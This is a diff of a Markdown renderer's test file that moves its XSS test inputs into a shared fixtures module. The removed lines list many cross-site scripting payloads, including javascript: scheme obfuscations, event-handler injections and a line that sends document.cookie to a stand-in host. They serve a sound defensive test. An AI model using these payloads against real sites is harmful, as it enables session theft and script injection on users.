@@ -1,6 +1,7 @@
 // The one renderer of Markdown: what it makes, and that hostile text never becomes more than text.
 import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
 import { describe, expect, test } from 'vitest';
+import { hostileTexts } from '../../../../fixtures/markup-payloads/payloads.ts';
 import { renderMarkdown } from './markdown.ts';
 
 const origin = 'https://shop.example';
@@ -60,87 +61,7 @@ test('lists, quotations, code and tables', () => {
   );
 });
 
-const scripts = ['alert(1)', "alert('x')", 'alert`1`', 'top[`al`+`ert`](1)', 'fetch("//evil.example/"+document.cookie)'];
-const schemes = [
-  'javascript:',
-  'JaVaScRiPt:',
-  'java\tscript:',
-  'java\nscript:',
-  '\u0001javascript:',
-  ' javascript:',
-  'javascript&colon;',
-  '&#106;avascript:',
-  '&#x6A&#x61vascript:',
-  'javascript&#58;',
-  '&Tab;javascript:',
-  'vbscript:',
-  'data:text/html,',
-  'data:text/html;base64,',
-  'data:image/svg+xml,',
-  'file:///',
-  'blob:',
-  'view-source:javascript:',
-  'feed:javascript:',
-  'x:javascript:',
-];
-const links = [
-  (url: string) => `[a](${url})`,
-  (url: string) => `[a](<${url}>)`,
-  (url: string) => `<${url}>`,
-  (url: string) => `[a][1]\n\n[1]: ${url}`,
-  (url: string) => `![a](${url})`,
-  (url: string) => `[![a](${url})](${url} "t")`,
-  (url: string) => `[a](${url} "\\" onmouseover=alert(1) x=\\"")`,
-  (url: string) => `# [a](${url})`,
-  (url: string) => `| a |\n|---|\n| [a](${url}) |`,
-];
-const raws = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<iframe srcdoc="<script>alert(1)</script>">',
-  '<object data="javascript:alert(1)">',
-  '<form action=javascript:alert(1)><input type=submit>',
-  '<a href=javascript:alert(1)>a</a>',
-  '<details open ontoggle=alert(1)>',
-  '<style>@import "javascript:alert(1)"</style>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '</p></div><img src=x onerror=alert(1)>',
-  '<x id=content name=cookie>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<![CDATA[><img src=x onerror=alert(1)>]]>',
-  '<?php <img src=x onerror=alert(1)> ?>',
-  '<textarea></textarea><img src=x onerror=alert(1)>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '&lt;img src=x onerror=alert(1)&gt;',
-  '"><img src=x onerror=alert(1)>',
-  "'-alert(1)-'",
-  '{{constructor.constructor("alert(1)")()}}',
-];
-const places = [
-  (raw: string) => raw,
-  (raw: string) => `a ${raw} b`,
-  (raw: string) => `# ${raw}`,
-  (raw: string) => `- ${raw}\n  ${raw}`,
-  (raw: string) => `> ${raw}`,
-  (raw: string) => `\`${raw}\``,
-  (raw: string) => `\`\`\`${raw}\n${raw}\n\`\`\``,
-  (raw: string) => `    ${raw}`,
-  (raw: string) => `| ${raw} |\n|---|\n| ${raw} |`,
-  (raw: string) => `[${raw}](/a)`,
-  (raw: string) => `![${raw}](/a.png "${raw}")`,
-  (raw: string) => `[a](/a '${raw}')`,
-  (raw: string) => `[a](/${raw})`,
-  (raw: string) => `**${raw}** *${raw}* ~~${raw}~~`,
-];
-const hostile = [
-  ...schemes.flatMap((scheme) => scripts.flatMap((script) => links.map((link) => link(scheme + script)))),
-  ...raws.flatMap((raw) => places.map((place) => place(raw))),
-];
+const hostile = hostileTexts();
 
 /** Names of elements and of their attributes. */
 const allowed: Readonly<Record<string, readonly string[]>> = {
